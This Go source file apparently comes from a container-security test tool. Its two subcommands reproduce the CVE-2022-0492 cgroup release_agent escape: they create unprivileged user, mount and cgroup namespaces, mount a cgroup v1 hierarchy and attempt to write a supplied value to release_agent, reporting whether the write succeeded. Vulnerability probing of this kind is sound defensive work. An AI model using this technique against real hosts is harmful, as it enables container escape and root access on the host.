package main

import (
	"fmt"
	"io"
	"os"
	"os/exec"
	"syscall"

	"golang.org/x/sys/unix"
)

func init() {
	register("release-agent", "CONTROLLER VALUE", releaseAgent)
	register("release-agent-child", "CONTROLLER VALUE", releaseAgentChild)
}

// releaseAgent plays CVE-2022-0492: it starts itself in new user, mount
// and cgroup namespaces (root mapped to our uid), where the child mounts
// the cgroup v1 hierarchy of CONTROLLER on /dev/shm and writes VALUE to
// its release_agent. It prints the child's report: "mount ERRNO", or
// "write ERRNO", or "WROTE" when the attack worked.
func releaseAgent(out io.Writer, args []string) error {
	if err := needArgs(args, 2, 2, "CONTROLLER VALUE"); err != nil {
		return err
	}
	cmd := exec.Command("/proc/self/exe", append([]string{"release-agent-child"}, args...)...)
	cmd.Stdout, cmd.Stderr = out, out
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
	if err := cmd.Run(); err != nil {
		fmt.Fprintf(out, "unshare %s\n", errnoName(err))
	}
	return nil
}

func releaseAgentChild(out io.Writer, args []string) error {
	if err := needArgs(args, 2, 2, "CONTROLLER VALUE"); err != nil {
		return err
	}
	if err := unix.Mount("cgroup", "/dev/shm", "cgroup", 0, args[0]); err != nil {
		fmt.Fprintf(out, "mount %s\n", errnoName(err))
		return nil
	}
	fd, err := unix.Open("/dev/shm/release_agent", unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		_, err = unix.Write(fd, []byte(args[1]))
		unix.Close(fd)
	}
	if err != nil {
		fmt.Fprintf(out, "write %s\n", errnoName(err))
		return nil
	}
	fmt.Fprintln(out, "WROTE")
	return nil
}
